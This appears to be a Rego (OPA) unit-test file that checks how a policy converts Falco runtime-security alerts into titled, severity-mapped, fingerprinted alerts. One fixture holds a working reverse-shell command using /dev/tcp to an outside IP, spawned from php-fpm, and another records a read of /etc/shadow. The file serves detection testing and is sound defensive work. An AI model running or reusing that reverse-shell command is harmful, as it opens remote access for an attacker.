package ingest.falco_test

reverse_shell := {
	"uuid": "2f0c8e1a-6b7d-4c3e-9a5f-1d2e3f4a5b6c",
	"output": "10:14:52.662012345: Critical Redirect STDOUT/STDIN to network connection in container (user=www-data process=sh command=sh -i)",
	"priority": "Critical",
	"rule": "Redirect STDOUT/STDIN to Network Connection in Container",
	"time": "2025-03-05T10:14:52.662012345Z",
	"source": "syscall",
	"hostname": "k8s-node-pool-a-03",
	"tags": ["T1059", "container", "mitre_execution"],
	"output_fields": {
		"container.id": "3b9f0e4c7a21",
		"container.image.repository": "registry.example.com/shop/checkout",
		"container.name": "checkout",
		"evt.time": 1741169692662012345,
		"fd.sip": "203.0.113.19",
		"k8s.ns.name": "shop",
		"k8s.pod.name": "checkout-5d8f7c9b6-x2k4p",
		"proc.cmdline": "sh -c sh -i >& /dev/tcp/203.0.113.19/4444 0>&1",
		"proc.name": "sh",
		"proc.pname": "php-fpm",
		"user.name": "www-data",
		"user.loginuid": -1,
	},
}

alerts_for(evt) := alerts if {
	alerts := data.ingest.falco.alerts with input as evt
}

has_attr(a, key, value) if {
	some at in a.attributes
	at.key == key
	at.value == value
}

test_reverse_shell_alert if {
	alerts := alerts_for(reverse_shell)
	count(alerts) == 1
	some a in alerts
	a.title == "Falco: Redirect STDOUT/STDIN to Network Connection in Container on k8s-node-pool-a-03 (pod shop/checkout-5d8f7c9b6-x2k4p)"
	a.severity == "critical"
	a.description == reverse_shell.output
	has_attr(a, "user", "www-data")
	has_attr(a, "process", "sh")
	has_attr(a, "src_ip", "203.0.113.19")
	has_attr(a, "container_image", "registry.example.com/shop/checkout")
	"mitre_execution" in a.tags
	a.fingerprint == {
		"rule": "Redirect STDOUT/STDIN to Network Connection in Container",
		"host": "k8s-node-pool-a-03",
		"image": "registry.example.com/shop/checkout",
		"namespace": "shop",
	}
}

test_host_event_title if {
	evt := {
		"output": "Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow)",
		"priority": "Warning",
		"rule": "Read sensitive file untrusted",
		"time": "2025-03-05T11:02:17.120045532Z",
		"hostname": "bastion-01.example.com",
		"output_fields": {"container.id": "host", "container.name": "host", "fd.name": "/etc/shadow", "proc.name": "cat", "user.name": "root"},
	}
	some a in alerts_for(evt)
	a.title == "Falco: Read sensitive file untrusted on bastion-01.example.com"
	a.severity == "medium"
	has_attr(a, "file", "/etc/shadow")
}

severity_for(p) := a.severity if {
	some a in alerts_for(object.union(reverse_shell, {"priority": p}))
}

test_priority_mapping if {
	severity_for("Emergency") == "critical"
	severity_for("Alert") == "critical"
	severity_for("Critical") == "critical"
	severity_for("Error") == "high"
	severity_for("Warning") == "medium"
	severity_for("Notice") == "low"
	severity_for("Informational") == "info"
	severity_for("informational") == "info"
}

test_debug_priority_ignored if {
	count(alerts_for(object.union(reverse_shell, {"priority": "Debug"}))) == 0
}

test_falcosidekick_test_event_ignored if {
	count(alerts_for({
		"output": "This is a test from falcosidekick",
		"priority": "Debug",
		"rule": "Test rule",
		"time": "2025-03-05T09:00:00Z",
		"output_fields": {"proc.name": "falcosidekick", "user.name": "falcosidekick"},
	})) == 0
}

test_payload_without_rule_ignored if {
	count(alerts_for({"output": "something", "priority": "Critical"})) == 0
}

test_fingerprint_ignores_time_pod_and_container if {
	later := object.union(reverse_shell, {
		"uuid": "00000000-0000-4000-8000-000000000000",
		"time": "2025-03-09T00:00:00Z",
		"output_fields": {"evt.time": 1741478400000000000, "container.id": "aaaabbbbcccc", "k8s.pod.name": "checkout-5d8f7c9b6-zz9qq"},
	})
	some a in alerts_for(reverse_shell)
	some b in alerts_for(later)
	a.fingerprint == b.fingerprint
}
